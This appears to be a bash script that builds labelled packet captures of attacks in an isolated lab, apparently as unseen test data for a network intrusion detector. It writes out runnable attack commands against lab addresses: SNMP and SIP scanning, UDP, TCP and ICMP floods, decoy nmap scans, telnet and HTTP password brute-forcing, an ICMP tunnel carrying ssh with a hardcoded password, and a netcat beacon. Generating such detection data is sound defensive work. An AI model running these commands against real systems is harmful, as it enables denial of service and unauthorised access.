#!/usr/bin/env bash
# The third set of unseen tools: attack tools and modes in neither the training captures, the
# realistic corpus nor the first two sets (docs/unseen-tools.md, "A third set of unseen tools").
# Needs the lab of "lab.sh up3". Attacks run from fl-far 10.77.0.67 (behind the delay line: round
# trips of about 60 ms) or, for the floods, from fl-atk 10.77.0.66 (sub-millisecond link: the delay
# line is a Python loop and would cap a flood's rate). One pcap per scenario in OUT, OUT/manifest.csv
# (file,label,packets,seconds) and OUT/labels.csv (the attackers' and the decoys' addresses).
# ONLY=REGEX runs only the scenarios whose names match (appending to the manifest).
# Usage: [ONLY=REGEX] capture3.sh RUN_DIR OUT
set -uo pipefail
source "$(dirname "$0")/capture-lib.sh"
lab_dirs "$@"
T=10.77.0.10
W=/usr/share/dirb/wordlists
printf 'ip,label\n10.77.0.66,malicious\n10.77.0.67,malicious\n10.77.0.101,malicious\n10.77.0.102,malicious\n' > "$out/labels.csv"
manifest_start
{ head -60 /usr/share/doc/onesixtyone/dict.txt; echo n0tPublic77; } > "$run/communities.txt"
{ sed -n 100,140p "$W/common.txt"; echo letmein99; } > "$run/passwords3.txt"
printf 'admin\nroot\nuser\n' > "$run/users3.txt"
{ echo $T; seq -f '10.77.0.%g' 100 149; } > "$run/sweep-hosts.txt"
# Addresses 10.77.0.100-149 hold no host; permanent neighbour entries let probes to them reach the
# bridge (the capture) instead of stopping at an unanswered ARP request, as behind a router.
for i in $(seq 100 149); do
  ip -n fl-far neigh replace 10.77.0.$i lladdr 02:00:00:00:00:$(printf %02x $i) dev flfar-a nud permanent
done

scenario() { # NAME NAMESPACE SECONDS COMMAND: every scenario is an attack
  local name=$1 ns=$2 limit=$3
  shift 3
  labelled_scenario "$name" malicious "$ns" "$limit" "$*"
}

# SNMP community guessing and SIP scanning (UDP services).
scenario onesixtyone_snmp fl-far 30 onesixtyone -w 50 -c "$run/communities.txt" $T
scenario onesixtyone_sweep fl-far 40 onesixtyone -w 20 -c "$run/communities.txt" -i "$run/sweep-hosts.txt"
scenario nmap_snmp_brute fl-far 60 nmap -sU -Pn -n -p 161 --script snmp-brute --script-args snmp-brute.communitiesdb="$run/communities.txt" $T
scenario svmap_sweep fl-far 60 svmap 10.77.0.1-160
scenario svwar_extensions fl-far 60 svwar -e100-400 -m INVITE $T
# Floods of modes never captured.
scenario nping_udp_flood fl-atk 40 nping --udp -p 5060 --rate 800 -c 20000 -q $T
scenario nping_tcp_pshurg_flood fl-atk 40 nping --tcp --flags psh,urg -p 80 --rate 800 -c 20000 -q $T
scenario nping_icmp_timestamp_flood fl-atk 40 nping --icmp --icmp-type time --rate 500 -c 12000 -q $T
scenario hping3_fin_flood fl-atk 40 hping3 -F -p 80 -i u300 -c 12000 $T
scenario hping3_frag_udp_flood fl-atk 40 hping3 --udp -f -d 1200 -p 161 -i u500 -c 6000 $T
# Scan modes never captured; a decoy scan; a slow scan of few ports.
scenario nmap_maimon_scan fl-atk 40 nmap -sM -Pn -n -T4 -p 1-600 $T
scenario nmap_window_scan fl-atk 40 nmap -sW -Pn -n -T4 -p 1-600 $T
scenario nmap_sctp_init_scan fl-atk 40 nmap -sY -Pn -n -T4 -p 1-300 $T
scenario nmap_ip_protocol_scan fl-atk 60 nmap -sO -Pn -n -T4 $T
scenario nmap_decoy_scan fl-far 60 nmap -sS -Pn -n -T4 -D 10.77.0.101,10.77.0.102,ME -p 1-300 $T
scenario nmap_slow_few_ports fl-far 70 nmap -sS -Pn -n --max-retries 0 --scan-delay 4s -p 21,23,25,53,110,135,139,143,443,445,3306,3389,5432,5900 $T
# Password guessing on services never attacked so far, by tools never used on them.
scenario nmap_telnet_brute fl-far 70 nmap -Pn -n -p 23 --script telnet-brute --script-args \
  userdb="$run/users3.txt",passdb="$run/passwords3.txt",telnet-brute.timeout=5s $T
scenario hydra_telnet fl-far 70 hydra -I -t 4 -L "$run/users3.txt" -P "$run/passwords3.txt" telnet://$T
scenario nmap_http_brute fl-far 70 nmap -Pn -n -p 8000 --script +http-brute --script-args \
  http-brute.path=/admin/,userdb="$run/users3.txt",passdb="$run/passwords3.txt" $T
# HTTP floods: HTTP/2 (h2load over h2c) and siege in benchmark mode.
scenario h2load_flood fl-far 50 h2load -D 30 -c 20 -m 10 http://$T:8080/about.html
scenario siege_flood fl-far 50 siege -c 100 -b -t 30S http://$T/index.html
# Tunnels and beacons.
scenario ptunnel_icmp_scp fl-far 70 "ptunnel-ng -p$T -l2222 -r$T -R22 -v0 -o/dev/null & sleep 2; \
  sshpass -p 'Sunset#2024' scp -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -P 2222 fmlab@127.0.0.1:'$run/www/docs/big.bin' /dev/null; \
  sshpass -p 'Sunset#2024' ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -p 2222 fmlab@127.0.0.1 'ls; id; uname -a'; kill %1"
scenario ncat_beacon fl-far 75 'for i in $(seq 1 22); do { echo "check-in $i $(hostname)"; sleep 1; } | ncat -w 3 '$T' 4444 > /dev/null;
  sleep $(awk -v r=$RANDOM "BEGIN { printf \"%.2f\", 3 * (0.7 + 0.6 * r / 32767) }"); done'
